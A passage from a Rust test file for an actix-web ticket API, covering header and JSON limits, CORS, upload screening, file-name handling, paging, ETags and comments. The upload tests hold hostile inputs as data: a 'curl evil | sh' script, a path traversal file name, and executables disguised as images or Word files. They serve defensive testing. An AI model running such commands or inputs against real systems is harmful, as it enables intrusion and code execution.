        test::call_service(&app, bob.to_request()).await.status(),
        StatusCode::CREATED
    );
}

#[actix_web::test]
async fn oversized_request_headers_are_431() {
    let limits = Limits {
        max_header_bytes: 2048,
        ..Limits::default()
    };
    let request = json_request(&valid_json()).insert_header(("x-padding", "p".repeat(4096)));
    let (status, _, body) = call(with_limits(limits), request).await;
    assert_eq!(status, StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
    assert_eq!(body["code"], "HEADERS_TOO_LARGE");
}

#[actix_web::test]
async fn json_nested_too_deeply_is_400_before_it_is_parsed() {
    let deep = format!("{{\"title\": {}1{}}}", "[".repeat(200), "]".repeat(200));
    let request = TestRequest::post()
        .uri("/api/v1/tickets")
        .insert_header(bearer())
        .insert_header((header::CONTENT_TYPE, "application/json"))
        .set_payload(deep);
    let (status, _, body) = call(with_limits(Limits::default()), request).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        body["detail"]
            .as_str()
            .expect("detail")
            .contains("nests deeper"),
        "{body}"
    );
}

#[actix_web::test]
async fn cors_answers_only_configured_origins_and_never_allows_credentials() {
    let mut configured = with_limits(Limits::default());
    configured.cors_origins = vec!["https://portal.example.com".into()];
    let preflight = |origin: &str| {
        TestRequest::default()
            .method(actix_web::http::Method::OPTIONS)
            .uri("/api/v1/tickets")
            .insert_header((header::ORIGIN, origin.to_owned()))
            .insert_header((header::ACCESS_CONTROL_REQUEST_METHOD, "POST"))
            .insert_header((
                header::ACCESS_CONTROL_REQUEST_HEADERS,
                "authorization, content-type, idempotency-key",
            ))
    };
    let (status, headers, _) =
        call(configured.clone(), preflight("https://portal.example.com")).await;
    assert!(status.is_success(), "{status}");
    assert_eq!(
        headers
            .get(header::ACCESS_CONTROL_ALLOW_ORIGIN)
            .map(|v| v.as_bytes()),
        Some(&b"https://portal.example.com"[..])
    );
    assert!(
        headers
            .get(header::ACCESS_CONTROL_ALLOW_CREDENTIALS)
            .is_none()
    );

    let (status, headers, body) = call(configured, preflight("https://evil.example.com")).await;
    assert!(headers.get(header::ACCESS_CONTROL_ALLOW_ORIGIN).is_none());
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["code"], "CORS_REJECTED");

    let mut wildcard = with_limits(Limits::default());
    wildcard.cors_origins = vec!["*".into()];
    let (_, headers, _) = call(wildcard, preflight("https://anyone.example.com")).await;
    assert_eq!(
        headers
            .get(header::ACCESS_CONTROL_ALLOW_ORIGIN)
            .map(|v| v.as_bytes()),
        Some(&b"*"[..])
    );
    assert!(
        headers
            .get(header::ACCESS_CONTROL_ALLOW_CREDENTIALS)
            .is_none()
    );

    // Without configured origins there is no CORS at all.
    let (_, headers, _) = call(
        with_limits(Limits::default()),
        preflight("https://portal.example.com"),
    )
    .await;
    assert!(headers.get(header::ACCESS_CONTROL_ALLOW_ORIGIN).is_none());
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
const PDF: &[u8] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n";

#[actix_web::test]
async fn hostile_files_are_415_naming_the_file_and_nothing_is_created() {
    let cases: [(&str, &str, &[u8], &str); 4] = [
        ("holiday.jpg", "image/jpeg", ELF, "an executable"),
        ("scan.png", "image/png", PDF, "declared as image/png"),
        ("invoice.exe", "application/pdf", PDF, "ending in .exe"),
        (
            "notes.txt",
            "text/plain",
            b"#!/bin/sh\ncurl evil | sh\n",
            "a script",
        ),
    ];
    for (name, declared, bytes, reason) in cases {
        let form = Form::new().text("request", &valid_json().to_string()).file(
            "attachments[]",
            name,
            declared,
            bytes,
        );
        let (status, _, body) = call(with_limits(Limits::default()), form.request()).await;
        assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{name}: {body}");
        let detail = body["detail"].as_str().expect("detail");
        assert!(detail.contains(name) && detail.contains(reason), "{detail}");
    }
}

#[actix_web::test]
async fn a_refused_file_is_refused_once_its_first_bytes_are_seen() {
    // 5 MiB of executable: refused after the sniff window, not after the whole upload.
    let mut exe = ELF.to_vec();
    exe.resize(5 * 1024 * 1024, 0);
    let form = Form::new().text("request", &valid_json().to_string()).file(
        "attachments[]",
        "big.dat",
        "application/octet-stream",
        &exe,
    );
    let (status, _, _) = call(with_limits(Limits::default()), form.request()).await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
}

#[actix_web::test]
async fn non_ascii_file_names_arrive_intact_and_traversal_parts_do_not() {
    let (service, seen) = recording_service();
    let mut body = Form::new().text("request", &valid_json().to_string());
    // RFC 5987 `filename*` (what careful clients send for non-ASCII names).
    for (encoded, _) in [
        ("%E5%A0%B1%E5%91%8A%E6%9B%B8.pdf", "報告書.pdf"),
        ("%D8%AA%D9%82%D8%B1%D9%8A%D8%B1.pdf", "تقرير.pdf"),
        ("%F0%9F%98%80%20scan.pdf", "😀 scan.pdf"),
        ("..%2F..%2Fetc%2F.hidden.pdf", "hidden.pdf"),
    ] {
        body.body.extend_from_slice(
            format!(
                "--{}\r\nContent-Disposition: form-data; name=\"attachments[]\"; filename*=UTF-8''{encoded}\r\nContent-Type: application/pdf\r\n\r\n",
                body.boundary
            )
            .as_bytes(),
        );
        body.body.extend_from_slice(PDF);
        body.body.extend_from_slice(b"\r\n");
    }
    let (status, _, answer) = call(state(service, Limits::default()), body.request()).await;
    assert_eq!(status, StatusCode::CREATED, "{answer}");
    let seen = seen.lock().expect("lock");
    let names: Vec<&str> = seen[0]
        .1
        .attachments
        .iter()
        .map(|a| a.name.as_str())
        .collect();
    assert_eq!(
        names,
        ["報告書.pdf", "تقرير.pdf", "😀 scan.pdf", "hidden.pdf"]
    );
}

#[actix_web::test]
async fn a_part_with_oversized_headers_is_refused() {
    let mut form = Form::new().text("request", &valid_json().to_string());
    form.body.extend_from_slice(
        format!(
            "--{}\r\nContent-Disposition: form-data; name=\"attachments[]\"; filename=\"a.txt\"\r\nX-Padding: {}\r\n\r\nabc\r\n",
            form.boundary,
            "p".repeat(100 * 1024)
        )
        .as_bytes(),
    );
    let (status, _, body) = call(with_limits(Limits::default()), form.request()).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
}

#[actix_web::test]
async fn too_many_text_parts_are_413() {
    let mut form = Form::new().text("request", &valid_json().to_string());
    for i in 0..200 {
        form = form.text(&format!("extra_{i}"), "x");
    }
    let (status, _, _) = call(with_limits(Limits::default()), form.request()).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
}

fn ole_bytes(stream: &str, clsid: Option<&str>) -> Vec<u8> {
    let temp = tempfile::NamedTempFile::new().expect("temp file");
    let mut file = cfb::create(temp.path()).expect("cfb");
    file.create_stream(stream).expect("stream");
    if let Some(clsid) = clsid {
        file.set_storage_clsid("/", uuid::Uuid::parse_str(clsid).expect("uuid"))
            .expect("clsid");
    }
    file.flush().expect("flush");
    drop(file);
    std::fs::read(temp.path()).expect("bytes")
}

#[actix_web::test]
async fn an_old_office_file_passes_and_an_installer_dressed_as_one_does_not() {
    let (service, seen) = recording_service();
    let word = ole_bytes("/WordDocument", None);
    let form = Form::new().text("request", &valid_json().to_string()).file(
        "attachments[]",
        "minutes.doc",
        "application/msword",
        &word,
    );
    let (status, _, body) = call(state(service, Limits::default()), form.request()).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(
        seen.lock().expect("lock")[0].1.attachments[0].content_type,
        "application/msword"
    );

    let msi = ole_bytes("/payload", Some("000C1084-0000-0000-C000-000000000046"));
    let form = Form::new().text("request", &valid_json().to_string()).file(
        "attachments[]",
        "invoice.doc",
        "application/msword",
        &msi,
    );
    let (status, _, body) = call(with_limits(Limits::default()), form.request()).await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .expect("detail")
            .contains("an executable"),
        "{body}"
    );
}

// ---- Read side ----

fn ticket_view(id: i64) -> ticketd_domain::TicketView {
    ticketd_domain::TicketView {
        id: uuid::Uuid::now_v7(),
        inv_gate_id: IncidentId::parse(id).expect("id"),
        title: format!("ticket {id}"),
        description: "d".into(),
        category_id: 1,
        priority_id: 2,
        type_id: 1,
        source_id: None,
        location_id: None,
        date_ocurred: None,
        related_to: vec![],
        attachments: json!([]),
        created_at: chrono::DateTime::from_timestamp(1_700_000_000 + id, 0).expect("instant"),
        status: ticketd_domain::IncidentStatus {
            status_id: Some(1),
            ..Default::default()
        },
        status_synced_at: None,
    }
}

fn with_queries(queries: MockTicketQueries) -> HttpState {
    let mut state = with_limits(Limits::default());
    state.queries = Arc::new(queries);
    state
}

#[actix_web::test]
async fn the_list_is_the_callers_page_with_a_cursor_and_a_next_link() {
    let mut queries = MockTicketQueries::new();
    queries
        .expect_list_tickets()
        .withf(|caller, page| {
            caller.as_str() == "alice@example.com" && page.limit == 2 && page.status_id == Some(1)
        })
        .returning(|_, _| {
            let tickets = vec![ticket_view(9), ticket_view(8)];
            let next = tickets.last().map(ticketd_domain::PageCursor::after);
            Ok(ticketd_domain::TicketList { tickets, next })
        });
    let request = TestRequest::get()
        .uri("/api/v1/tickets?limit=2&status_id=1")
        .insert_header(bearer());
    let (status, headers, body) = call(with_queries(queries), request).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["tickets"][0]["inv_gate_id"], 9);
    assert_eq!(body["tickets"][1]["status_id"], 1);
    let cursor = body["next_cursor"].as_str().expect("cursor");
    let link = headers
        .get(header::LINK)
        .and_then(|v| v.to_str().ok())
        .expect("link");
    assert!(
        link.contains(cursor) && link.contains("status_id=1"),
        "{link}"
    );
}

#[actix_web::test]
async fn bad_list_parameters_are_400_listing_each() {
    let mut queries = MockTicketQueries::new();
    queries.expect_list_tickets().never();
    let request = TestRequest::get()
        .uri("/api/v1/tickets?limit=500&cursor=nonsense&status_id=open")
        .insert_header(bearer());
    let (status, _, body) = call(with_queries(queries), request).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let fields: Vec<&str> = body["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .filter_map(|e| e["field"].as_str())
        .collect();
    assert_eq!(fields, ["limit", "cursor", "status_id"]);
}

#[actix_web::test]
async fn a_ticket_has_an_etag_and_an_unchanged_one_is_304() {
    let view = ticket_view(7);
    let mut queries = MockTicketQueries::new();
    queries.expect_ticket().returning(move |_, _| {
        Ok(Some(ticketd_domain::TicketDetail {
            ticket: view.clone(),
            stale: false,
        }))
    });
    let app = test::init_service(app(with_queries(queries))).await;
    let first = test::call_service(
        &app,
        TestRequest::get()
            .uri("/api/v1/tickets/7")
            .insert_header(bearer())
            .to_request(),
    )
    .await;
    assert_eq!(first.status(), StatusCode::OK);
    let etag = first.headers().get(header::ETAG).cloned().expect("etag");
    let body: Value = serde_json::from_slice(&test::read_body(first).await).expect("json");
    assert_eq!(
        (body["inv_gate_id"].clone(), body["stale"].clone()),
        (json!(7), json!(false))
    );

    let again = test::call_service(
        &app,
        TestRequest::get()
            .uri("/api/v1/tickets/7")
            .insert_header(bearer())
            .insert_header((header::IF_NONE_MATCH, etag.clone()))
            .to_request(),
    )
    .await;
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(again.headers().get(header::ETAG), Some(&etag));

    let other = test::call_service(
        &app,
        TestRequest::get()
            .uri("/api/v1/tickets/7")
            .insert_header(bearer())
            .insert_header((header::IF_NONE_MATCH, "\"something-else\""))
            .to_request(),
    )
    .await;
    assert_eq!(other.status(), StatusCode::OK);
}

#[actix_web::test]
async fn someone_elses_ticket_or_a_non_numeric_id_is_404() {
    let mut queries = MockTicketQueries::new();
    queries.expect_ticket().returning(|_, _| Ok(None));
    let app = test::init_service(app(with_queries(queries))).await;
    for uri in [
        "/api/v1/tickets/7",
        "/api/v1/tickets/abc",
        "/api/v1/tickets/-3",
    ] {
        let response = test::call_service(
            &app,
            TestRequest::get()
                .uri(uri)
                .insert_header(bearer())
                .to_request(),
        )
        .await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{uri}");
    }
}

#[actix_web::test]
async fn comments_are_listed_and_added_as_json_or_multipart_with_files() {
    let mut queries = MockTicketQueries::new();
    queries.expect_comments().returning(|_, _| {
        Ok(Some(vec![ticketd_domain::Comment {
            id: 3,
            author_id: Some(42),
            comment: "We are on it".into(),
            created_at: None,
            is_solution: false,
            attachments: vec![],
            customer_visible: true,
        }]))
    });
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    queries
        .expect_add_comment()
        .returning(move |_, id, comment| {
            let files: Vec<Vec<u8>> = comment
                .attachments
                .iter()
                .map(|a| std::fs::read(&a.path).expect("spooled"))
                .collect();
            log.lock()
                .expect("lock")
                .push((id.get(), comment.text.as_str().to_owned(), files));
            Ok(Some(json!({"status": "OK", "info": "Comment added"})))
        });
    let app = test::init_service(app(with_queries(queries))).await;

    let listed = test::call_service(
        &app,
        TestRequest::get()
            .uri("/api/v1/tickets/7/comments")
            .insert_header(bearer())
            .to_request(),
    )
    .await;
    assert_eq!(listed.status(), StatusCode::OK);
    let body: Value = serde_json::from_slice(&test::read_body(listed).await).expect("json");
    assert_eq!(body["comments"][0]["comment"], "We are on it");
    assert!(body["comments"][0].get("customer_visible").is_none());

    let json_comment = TestRequest::post()
        .uri("/api/v1/tickets/7/comments")
        .insert_header(bearer())
        .insert_header((header::CONTENT_TYPE, "application/json"))
        .set_payload(r#"{"comment": " Still broken "}"#);
    let added = test::call_service(&app, json_comment.to_request()).await;
    assert_eq!(added.status(), StatusCode::CREATED);

    let mut form = Form::new().text("comment", "Photo attached");
    form = form.file("attachments[]", "screen.pdf", "application/pdf", PDF);
    let request = form.request_to("/api/v1/tickets/7/comments").to_request();
    let added = test::call_service(&app, request).await;
    assert_eq!(added.status(), StatusCode::CREATED);

    let seen = seen.lock().expect("lock");
    assert_eq!((seen[0].0, seen[0].1.as_str()), (7, "Still broken"));
    assert_eq!(seen[1].1, "Photo attached");
    assert_eq!(seen[1].2, [PDF.to_vec()]);
}

#[actix_web::test]
async fn a_blank_or_missing_comment_is_400_and_a_foreign_ticket_404() {
    let mut queries = MockTicketQueries::new();
    queries.expect_add_comment().returning(|_, _, _| Ok(None));
    let app = test::init_service(app(with_queries(queries))).await;
    for (body, expected) in [
        (r#"{"comment": "  "}"#, StatusCode::BAD_REQUEST),
        (r#"{"text": "wrong field"}"#, StatusCode::BAD_REQUEST),
        (r#"{"comment": 5}"#, StatusCode::BAD_REQUEST),
        (r#"{"comment": "fine"}"#, StatusCode::NOT_FOUND),
    ] {
        let request = TestRequest::post()
            .uri("/api/v1/tickets/7/comments")
            .insert_header(bearer())
            .insert_header((header::CONTENT_TYPE, "application/json"))
            .set_payload(body);
        let response = test::call_service(&app, request.to_request()).await;
        assert_eq!(response.status(), expected, "{body}");
    }
}

#[actix_web::test]
async fn ticket_meta_lists_the_reference_data() {
    let mut queries = MockTicketQueries::new();
    queries.expect_ticket_meta().returning(|| {
        let one = |id, name: &str| ticketd_domain::Reference {
            id,
            name: name.into(),
            parent_id: None,
        };
        Ok(ticketd_domain::TicketMeta {
            priorities: vec![one(1, "Low")],
            types: vec![one(1, "Incident")],
            statuses: vec![one(1, "New")],
            sources: vec![one(2, "Web")],
            categories: vec![one(3, "Hardware")],
        })
    });
    let request = TestRequest::get()
        .uri("/api/v1/ticket-meta")
        .insert_header(bearer());
    let (status, _, body) = call(with_queries(queries), request).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["priorities"][0]["name"], "Low");
    assert_eq!(body["categories"][0]["id"], 3);
}
